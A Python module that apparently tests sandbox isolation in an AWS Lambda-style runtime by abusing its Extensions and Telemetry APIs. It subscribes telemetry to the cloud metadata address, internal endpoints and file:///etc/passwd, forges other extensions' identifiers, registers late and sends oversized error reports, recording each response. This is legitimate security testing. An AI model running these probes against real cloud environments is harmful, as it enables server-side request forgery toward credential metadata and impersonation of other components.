"""Abusing the Extensions and Telemetry APIs, which every function can reach at 127.0.0.1:9001."""

from __future__ import annotations

import http.client
import json
import threading
import time
from typing import Any

from .app import handler  # what runs attacks here too, after this module was imported during init
from .attempt import attempt

__all__ = ["handler"]

_API = ("127.0.0.1", 9001)
_EXTENSION = "/2020-01-01/extension"
_TELEMETRY = "/2022-07-01/telemetry"


def ask(method: str, path: str, body: Any = None, timeout: float = 3, **headers: str) -> Any:
    """One request: status and error type, or why not."""

    def call() -> list[Any]:
        connection = http.client.HTTPConnection(*_API, timeout=timeout)
        names = {f"Lambda-Extension-{name.replace('_', '-')}": value for name, value in headers.items()}
        connection.request(method, path, json.dumps(body), names)
        answer = connection.getresponse()
        document = json.loads(answer.read())
        return [answer.status, document.get("errorType") if isinstance(document, dict) else document]

    return attempt(call)


def _register(name: str) -> str:
    connection = http.client.HTTPConnection(*_API, timeout=3)
    connection.request("POST", f"{_EXTENSION}/register", '{"events":["INVOKE"]}', {"Lambda-Extension-Name": name})
    answer = connection.getresponse()
    answer.read()
    return answer.headers.get("Lambda-Extension-Identifier", "")


# Registration ends with init: what is to be attacked with is made here, as this module is imported.
OWN = _register("own")
DESTINATIONS = {
    uri: ask(
        "PUT",
        _TELEMETRY,
        {
            "schemaVersion": "2022-12-13",
            "types": ["platform", "function"],
            "destination": {"protocol": "HTTP", "URI": uri},
        },
        Identifier=OWN,
    )
    for uri in (
        "http://169.254.169.254:80/latest/meta-data",
        "http://127.0.0.1:9900/healthz",
        "http://sandbox.localdomain:9001/2018-06-01/runtime/invocation/next",
        "http://sandbox.localdomain:9900@169.254.169.254:80/",
        "file:///etc/passwd",
    )
}


def _poll() -> None:
    """Stay ready: an environment whose extension does not ask is not given another event."""
    while True:
        ask("GET", f"{_EXTENSION}/event/next", timeout=60, Identifier=OWN)


threading.Thread(target=_poll, daemon=True).start()


def identifier() -> str:
    """The identifier of this environment's extension."""
    return OWN


def destinations() -> dict[str, Any]:
    """What became of subscriptions to places that telemetry must never reach."""
    return DESTINATIONS


def use(identifiers: list[str]) -> list[Any]:
    """Act as extensions that are somebody else's, or nobody's."""
    return [
        ask(method, path, {}, Identifier=name, Function_Error_Type="Extension.Forged")
        for name in identifiers
        for method, path in (
            ("GET", f"{_EXTENSION}/event/next"),
            ("POST", f"{_EXTENSION}/init/error"),
            ("POST", f"{_EXTENSION}/exit/error"),
            ("PUT", _TELEMETRY),
        )
    ]


def register_late(count: int) -> list[Any]:
    """Register after init, many times."""
    return [ask("POST", f"{_EXTENSION}/register", {"events": ["INVOKE"]}, Name=f"late{n}") for n in range(count)]


def report() -> Any:
    """Give up as an extension: the environment ends with it."""
    document = {"errorMessage": "x" * 5000}
    told = ask("POST", f"{_EXTENSION}/exit/error", document, Identifier=OWN, Function_Error_Type="Mine")
    time.sleep(10)  # else the answer could be faster
    return told
